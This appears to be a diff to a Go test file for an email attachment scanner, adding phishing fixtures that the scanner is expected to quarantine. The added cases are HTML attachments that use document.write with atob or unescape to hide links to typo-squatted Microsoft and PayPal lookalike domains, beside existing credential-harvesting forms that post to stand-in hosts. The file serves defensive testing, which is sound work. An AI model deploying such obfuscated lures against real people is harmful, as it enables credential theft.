@@ -58,6 +58,11 @@ const writtenLogin = `<div class="box"><h2>Confirm your mailbox</h2><form method
 	`<input type="email" name="login" placeholder="Email"><input type="password" name="passwd" placeholder="Password">` +
 	`<input type="submit" value="Next"></form></div>`
 
+// writtenLink is a page a kit writes with document.write that shows no
+// form, only a link: the sign-in happens on the lookalike site.
+const writtenLink = `<div class="box"><h2>A document was shared with you</h2><p>Q4 payroll adjustments.xlsx (87 KB)</p>` +
+	`<p><a href="https://secure-micorsoft-login.com/sharepoint/view?id=4471" style="padding:8px;background:#0078d4;color:#fff">Open in SharePoint</a></p></div>`
+
 // sendFetch is the kit's script that posts the fields with fetch.
 const sendFetch = `document.getElementById("submit-btn").addEventListener("click", function (ev) {` + "\r\n" +
 	`  ev.preventDefault();` + "\r\n" +
@@ -100,6 +105,11 @@ func htmlPhishCases() []officeCase {
 		quarantine("html-phish-attribute-tricks", "HTML login form whose password box is a text field masked by -webkit-text-security, with a duplicate type and an entity-encoded action",
 			"Shared_File.html", phishPage("OneDrive", ".pw{-webkit-text-security:disc}", `<div class="box"><form method="post" action="&#104;ttps&#58;//collect.example.net/owa/auth.php">`+
 				`<input type="email" name="login"><input class="pw" type="text" type="password" name="passwd" autocomplete="off"><input type="submit" value="Sign in"></form></div>`, ""), "html-credential-form"),
+		quarantine("html-link-written-atob", "HTML attachment whose only content is document.write(atob(...)): the page it writes links to a typo-squat of microsoft.com",
+			"Shared_Document.html", "<html><body>\r\n<script>document.write(atob('"+base64.StdEncoding.EncodeToString([]byte(writtenLink))+"'));</script>\r\n</body></html>\r\n", "lookalike-domain"),
+		quarantine("html-link-written-unescape", "HTML attachment that writes, with document.write(unescape('%3C%61...')), a link showing www.paypal.com that goes to a lookalike",
+			"Account_Notice.html", "<html><head><title>Notice</title></head><body>\r\n<script language=\"javascript\">document.write(unescape('"+percentEncoded(
+				`<div class="box"><p>We could not verify your last payment.</p><p><a href="https://paypal-secure-login.com/resolution/case">https://www.paypal.com/resolution</a></p></div>`)+"'));</script>\r\n</body></html>\r\n", "lookalike-domain"),
 		quarantine("html-redirect-meta-refresh", "HTML attachment that only refreshes to a remote page",
 			"Voicemail_0412.html", "<html><head><meta http-equiv=\"Refresh\" content=\"0; URL='https://landing.example.net/voicemail/?id=kensa'\"></head><body>Loading your voicemail...</body></html>\r\n", "html-redirect-attachment"),
 		quarantine("html-redirect-location", "HTML attachment whose script sends the window to a remote page built from base64 and pieces",
